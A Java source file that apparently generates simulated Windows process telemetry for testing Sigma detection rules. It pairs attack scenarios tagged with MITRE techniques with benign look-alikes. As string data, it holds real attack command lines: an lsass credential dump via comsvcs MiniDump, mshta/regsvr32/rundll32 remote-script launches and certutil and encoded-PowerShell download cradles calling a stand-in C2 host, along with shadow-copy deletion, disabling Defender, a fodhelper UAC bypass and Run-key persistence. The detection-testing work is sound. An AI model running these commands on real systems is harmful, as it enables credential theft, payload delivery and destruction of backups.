package io.psfleet.agent.scenario;

import io.psfleet.agent.kernel.EProcess;
import io.psfleet.agent.kernel.ImageFile;
import io.psfleet.agent.kernel.ProcessToken;
import io.psfleet.agent.workload.Account;
import io.psfleet.agent.workload.HostProfile;
import io.psfleet.agent.workload.HostWorkload;
import io.psfleet.agent.workload.ModuleSet;
import io.psfleet.agent.workload.WindowsImages;
import java.util.List;
import java.util.function.BooleanSupplier;

/**
 * Attacks that Sysmon-trained rules (Sigma's process_creation and image_load rules) are written
 * for, with the command lines the real tools write, and the benign look-alikes that share their
 * programs. psfleet's own detection job has no rule for most of them yet: they exercise rules that
 * read {@code SysmonFields}, so they are not in the default injection set ({@link
 * Scenarios#all()}).
 */
final class TechniqueScenarios {
  private static final String C2 = "http://198.51.100.7";
  private static final String ENCODED =
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA==";

  private TechniqueScenarios() {}

  static List<Scenario> attacks(WindowsImages i, ScenarioFiles f) {
    List<ModuleSet> console = List.of(i.core);
    List<ModuleSet> net = List.of(i.core, i.network);
    List<ModuleSet> ps = List.of(i.core, i.gui, i.network, i.dotnet);
    ImageFile rundll32 = i.lolbins.get(0);
    ImageFile regsvr32 = i.lolbins.get(1);
    ImageFile mshta = i.lolbins.get(2);
    ImageFile certutil = i.lolbins.get(3);
    ImageFile netExe = systemFile(i, "net.exe");
    ImageFile reg = systemFile(i, "reg.exe");
    String payload = f.downloadedTool.path();
    return List.of(
        new Chain(
            "lsass-minidump",
            "T1003.001",
            true,
            "elevated PowerShell runs rundll32 comsvcs.dll MiniDump on lsass (0x1410)") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = elevated(w, t, i.powershell, "powershell.exe", ps)) != null),
                after(
                    3,
                    () -> {
                      t.involve(w.lsass());
                      int lsass = w.kernel().psGetProcessId(w.lsass());
                      p[1] =
                          t.child(
                              p[0],
                              rundll32,
                              "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump "
                                  + lsass
                                  + " C:\\Windows\\Temp\\debug.bin full",
                              console);
                      t.load(p[1], f.comsvcs);
                      // comsvcs!MiniDumpW opens lsass for what MiniDumpWriteDump needs.
                      return t.open(p[1], w.lsass(), CredentialAccessScenarios.MINIDUMP_ACCESS);
                    }));
          }
        },
        new Chain(
            "mshta-remote-hta",
            "T1218.005",
            true,
            "mshta runs a remote HTA that starts hidden PowerShell") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () -> {
                      p[0] =
                          t.start(
                              w.explorer(),
                              null,
                              mshta,
                              "\"C:\\Windows\\System32\\mshta.exe\" " + C2 + "/invoice.hta",
                              w.token(Account.USER),
                              List.of(i.core, i.gui, i.network));
                      t.load(p[0], f.mshtml);
                      t.load(p[0], f.vbscript);
                      return p[0] != null;
                    }),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                i.powershell,
                                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('"
                                    + C2
                                    + "/a.ps1'))\"",
                                ps)
                            != null));
          }
        },
        new Chain(
            "regsvr32-squiblydoo",
            "T1218.010",
            true,
            "regsvr32 /s /n /u /i:http... scrobj.dll runs a remote scriptlet") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () -> {
                      p[1] =
                          t.child(
                              p[0],
                              regsvr32,
                              "regsvr32.exe /s /n /u /i:" + C2 + "/file.sct scrobj.dll",
                              net);
                      t.load(p[1], f.scrobj);
                      t.load(p[1], f.jscript9);
                      return p[1] != null;
                    }));
          }
        },
        new Chain(
            "rundll32-javascript",
            "T1218.011",
            true,
            "rundll32 runs JavaScript through mshtml,RunHTMLApplication") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () -> {
                      p[0] =
                          t.start(
                              w.explorer(),
                              null,
                              rundll32,
                              "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:"
                                  + C2
                                  + "/a.sct\")",
                              w.token(Account.USER),
                              net);
                      t.load(p[0], f.mshtml);
                      t.load(p[0], f.jscript9);
                      return p[0] != null;
                    }));
          }
        },
        new Chain(
            "certutil-download",
            "T1105",
            true,
            "certutil -urlcache -split -f downloads a tool, which then runs") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () ->
                        (p[1] =
                                t.child(
                                    p[0],
                                    certutil,
                                    "certutil.exe -urlcache -split -f "
                                        + C2
                                        + "/wuauhelper.exe "
                                        + payload,
                                    net))
                            != null),
                after(3, () -> t.child(p[0], f.downloadedTool, payload, net) != null));
          }
        },
        new Chain(
            "powershell-encoded",
            "T1059.001",
            true,
            "cmd /c powershell -NoP -NonI -W Hidden -Enc <base64 download cradle>") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () -> {
                      p[0] =
                          userShell(
                              w,
                              t,
                              i,
                              "cmd.exe /c powershell -NoP -NonI -W Hidden -Enc " + ENCODED);
                      p[1] =
                          t.child(
                              p[0],
                              i.powershell,
                              "powershell  -NoP -NonI -W Hidden -Enc " + ENCODED,
                              ps);
                      return p[1] != null;
                    }));
          }
        },
        new Chain(
            "wmic-process-create",
            "T1047",
            true,
            "wmic process call create: WmiPrvSE starts the payload") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            String created = "powershell.exe -nop -w hidden -c IEX (iwr " + C2 + "/b.ps1)";
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () ->
                        (p[1] =
                                t.child(
                                    p[0],
                                    f.wmic,
                                    "wmic  process call create \"" + created + "\"",
                                    net))
                            != null),
                after(
                    1,
                    () -> {
                      p[2] =
                          t.start(
                              w.dcomLaunch(),
                              null,
                              i.wmiPrvSe,
                              "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                              ProcessToken.SYSTEM,
                              net);
                      // The Win32_Process provider creates the process with the caller's token.
                      return t.start(p[2], null, i.powershell, created, w.token(Account.USER), ps)
                          != null;
                    }));
          }
        },
        new Chain(
            "schtasks-persistence",
            "T1053.005",
            true,
            "schtasks /create runs a dropped tool every 30 minutes") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                f.schtasks,
                                "schtasks  /create /tn \"\\Microsoft\\Windows\\WindowsUpdate\\Refresh\" /tr \""
                                    + payload
                                    + "\" /sc minute /mo 30 /f",
                                console)
                            != null));
          }
        },
        new Chain(
            "shadow-copy-deletion",
            "T1490",
            true,
            "elevated cmd runs vssadmin delete shadows /all /quiet") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () ->
                        (p[0] =
                                elevated(
                                    w, t, i.cmd, "\"C:\\Windows\\system32\\cmd.exe\" ", console))
                            != null),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                f.vssadmin,
                                "vssadmin.exe delete shadows /all /quiet",
                                console)
                            != null));
          }
        },
        new Chain(
            "renamed-lolbin",
            "T1036.003",
            true,
            "certutil copied to winupdate.exe downloads a file: OriginalFileName CertUtil.exe") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                f.renamedCertutil,
                                "winupdate.exe -urlcache -split -f "
                                    + C2
                                    + "/a.bin C:\\Users\\Public\\Libraries\\a.bin",
                                net)
                            != null));
          }
        },
        new Chain(
            "defender-disabled",
            "T1562.001",
            true,
            "elevated PowerShell: Set-MpPreference -DisableRealtimeMonitoring $true") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () ->
                        elevated(
                                w,
                                t,
                                i.powershell,
                                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -Command Set-MpPreference -DisableRealtimeMonitoring $true",
                                ps)
                            != null));
          }
        },
        new Chain(
            "psexec-lateral",
            "T1569.002",
            true,
            "PSEXESVC.exe on the target runs a SYSTEM shell for the remote operator") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = psexesvc(w, t, f)) != null),
                after(
                    1,
                    () ->
                        t.child(
                                p[0],
                                i.cmd,
                                "\"cmd.exe\" /c \"whoami /all & net localgroup administrators\"",
                                console)
                            != null));
          }
        },
        new Chain(
            "domain-admins-discovery",
            "T1087.002",
            true,
            "net group \"domain admins\" /domain (net.exe starts net1.exe)") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () -> {
                      p[1] = t.child(p[0], netExe, "net  group \"domain admins\" /domain", net);
                      p[2] =
                          t.child(
                              p[1],
                              f.net1,
                              "C:\\Windows\\system32\\net1  group \"domain admins\" /domain",
                              net);
                      return p[2] != null;
                    }));
          }
        },
        new Chain(
            "run-key-persistence",
            "T1547.001",
            true,
            "reg add ...\\CurrentVersion\\Run points at a dropped tool") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                reg,
                                "reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WindowsUpdateHelper /t REG_SZ /d \""
                                    + payload
                                    + "\" /f",
                                console)
                            != null));
          }
        },
        new Chain(
            "fodhelper-uac-bypass",
            "T1548.002",
            true,
            "ms-settings handler hijacked in HKCU, then auto-elevating fodhelper starts it high") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            String key = "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command";
            return List.of(
                now(() -> (p[0] = userShell(w, t, i, "cmd.exe")) != null),
                after(
                    2,
                    () -> {
                      t.child(
                          p[0],
                          reg,
                          "reg  add " + key + " /ve /d \"cmd.exe /c start " + payload + "\" /f",
                          console);
                      return t.child(
                              p[0], reg, "reg  add " + key + " /v DelegateExecute /f", console)
                          != null;
                    }),
                after(
                    1,
                    () -> {
                      // fodhelper is auto-elevating: Appinfo creates it high, cmd as its parent.
                      p[1] =
                          t.start(
                              w.appinfoService(),
                              p[0],
                              f.fodhelper,
                              "fodhelper.exe",
                              w.token(Account.ADMIN),
                              List.of(i.core, i.gui));
                      p[2] =
                          t.child(
                              p[1],
                              i.cmd,
                              "\"C:\\Windows\\system32\\cmd.exe\" /c start " + payload,
                              console);
                      return p[2] != null;
                    }));
          }
        });
  }

  static List<Scenario> lookalikes(WindowsImages i, ScenarioFiles f) {
    List<ModuleSet> console = List.of(i.core);
    List<ModuleSet> net = List.of(i.core, i.network);
    ImageFile gpupdate = systemFile(i, "gpupdate.exe");
    return List.of(
        new Chain("it-psexec", "T1569.002", false, "IT runs gpupdate /force through PsExec") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(() -> (p[0] = psexesvc(w, t, f)) != null),
                after(1, () -> t.child(p[0], gpupdate, "gpupdate  /force", net) != null));
          }
        },
        new Chain(
            "backup-lists-shadows",
            "T1490",
            false,
            "a backup agent service runs vssadmin list shadows") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () ->
                        (p[0] =
                                t.start(
                                    w.services(),
                                    null,
                                    f.backupAgent,
                                    "\"C:\\Program Files\\Contoso Backup\\ContosoBackup.exe\" /service",
                                    ProcessToken.SYSTEM,
                                    net))
                            != null),
                after(
                    5,
                    () -> t.child(p[0], f.vssadmin, "vssadmin.exe list shadows", console) != null));
          }
        },
        new Chain(
            "admin-scheduled-task",
            "T1053.005",
            false,
            "an administrator schedules the nightly backup with schtasks /create") {
          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () ->
                        (p[0] =
                                elevated(
                                    w, t, i.cmd, "\"C:\\Windows\\system32\\cmd.exe\" ", console))
                            != null),
                after(
                    4,
                    () ->
                        t.child(
                                p[0],
                                f.schtasks,
                                "schtasks  /create /tn \"Contoso\\Nightly Backup\" /tr \"\\\"C:\\Program Files\\Contoso Backup\\ContosoBackup.exe\\\" /nightly\" /sc daily /st 02:00 /ru SYSTEM /f",
                                console)
                            != null));
          }
        },
        new Chain(
            "signed-installer",
            "T1204.002",
            false,
            "a user runs Chrome's signed installer from Downloads; it starts GoogleUpdate") {
          @Override
          public boolean runsOn(HostProfile.Kind kind) {
            return kind == HostProfile.Kind.WORKSTATION;
          }

          @Override
          List<Step> steps(HostWorkload w, Trail t, EProcess[] p) {
            return List.of(
                now(
                    () ->
                        (p[0] =
                                t.start(
                                    w.explorer(),
                                    null,
                                    f.chromeSetup,
                                    "\"" + f.chromeSetup.path() + "\" ",
                                    w.token(Account.USER),
                                    net))
                            != null),
                after(
                    2,
                    () ->
                        t.child(
                                p[0],
                                i.googleUpdate,
                                "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /install \"appguid={8A69D345-D564-463C-AFF1-A69D9E530F96}&appname=Google%20Chrome&needsadmin=prefers\"",
                                net)
                            != null));
          }
        });
  }

  // ---------------------------------------------------------------- shared steps

  /** One step: after {@code delaySeconds}, {@code action}; false stops the scenario there. */
  record Step(double delaySeconds, BooleanSupplier action) {}

  static Step now(BooleanSupplier action) {
    return new Step(0, action);
  }

  static Step after(double seconds, BooleanSupplier action) {
    return new Step(seconds, action);
  }

  /** A scenario as a chain of steps whose last one records the ground truth. */
  abstract static class Chain extends BaseScenario {
    Chain(String name, String technique, boolean attack, String description) {
      super(name, technique, attack, description);
    }

    /** The steps of one instance; {@code p} holds the processes steps hand to later ones. */
    abstract List<Step> steps(HostWorkload w, Trail t, EProcess[] p);

    @Override
    public void start(ScenarioHost host, String scenarioId) {
      Trail trail = new Trail(host);
      run(host, scenarioId, trail, steps(host.workload(), trail, new EProcess[4]), 0);
    }

    private void run(ScenarioHost host, String scenarioId, Trail t, List<Step> steps, int index) {
      HostWorkload w = host.workload();
      if (index == steps.size()) {
        record(host, scenarioId, t.processes, t.sequences);
        for (int k = 0; k < t.started.size(); k++) {
          endLater(w, t.started.get(t.started.size() - 1 - k), 2 + k);
        }
        return;
      }
      Step step = steps.get(index);
      Runnable next =
          () -> {
            if (step.action().getAsBoolean()) {
              run(host, scenarioId, t, steps, index + 1);
            }
          };
      if (step.delaySeconds() == 0) {
        next.run();
      } else {
        w.scheduleIn(step.delaySeconds() * (0.5 + w.random().nextDouble()), next);
      }
    }
  }

  /** An interactive cmd the user starts from explorer, in the user's profile folder. */
  static EProcess userShell(HostWorkload w, Trail t, WindowsImages i, String commandLine) {
    t.involve(w.explorer());
    return t.start(
        w.explorer(),
        null,
        i.cmd,
        commandLine,
        w.token(Account.USER),
        List.of(i.core),
        w.userProfile());
  }

  /** A program elevated through UAC: Appinfo creates it, explorer is its reported parent. */
  static EProcess elevated(
      HostWorkload w, Trail t, ImageFile image, String commandLine, List<ModuleSet> modules) {
    t.involve(w.appinfoService()).involve(w.explorer());
    return t.start(
        w.appinfoService(), w.explorer(), image, commandLine, w.token(Account.ADMIN), modules);
  }

  /** PsExec's service on this host, started by services.exe as SYSTEM. */
  static EProcess psexesvc(HostWorkload w, Trail t, ScenarioFiles f) {
    t.involve(w.services());
    return t.start(
        w.services(),
        null,
        f.psexesvc,
        "C:\\Windows\\PSEXESVC.exe",
        ProcessToken.SYSTEM,
        List.of(w.images().core, w.images().network));
  }

  private static ImageFile systemFile(WindowsImages i, String name) {
    ImageFile file = i.catalog().find(WindowsImages.SYSTEM32 + name);
    if (file == null) {
      throw new IllegalStateException(name + " is not in the catalog");
    }
    return file;
  }
}
